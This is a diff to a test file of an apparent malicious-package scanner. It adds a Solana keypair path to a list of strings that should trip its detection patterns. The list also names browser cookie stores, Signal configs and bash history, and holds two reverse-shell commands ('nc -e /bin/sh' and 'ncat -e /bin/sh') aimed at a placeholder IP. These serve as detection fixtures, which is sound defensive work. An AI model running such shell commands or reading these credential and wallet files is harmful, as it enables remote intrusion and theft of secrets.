@@ -118,6 +118,7 @@ def test_package_skips_quiet_files_and_still_judges_the_rest() -> None:
     "~/.config/BraveSoftware/Brave-Browser/Default/Cookies",
     r"AppData\Roaming\Signal\config.json", "/home/u/.config/Signal/config.json",
     "/home/u/.bash_history", "nc -e /bin/sh 203.0.113.7 4444", "ncat -e /bin/sh 203.0.113.7 4444",
+    "/home/u/.config/solana/id.json",  # the Solana CLI's keypair (the pattern wanted ".solana/id.json")
 ])
 def test_indicator_gate_keywords_still_open_the_patterns(text: str) -> None:
     from chainwatch.packages import indicators as ind
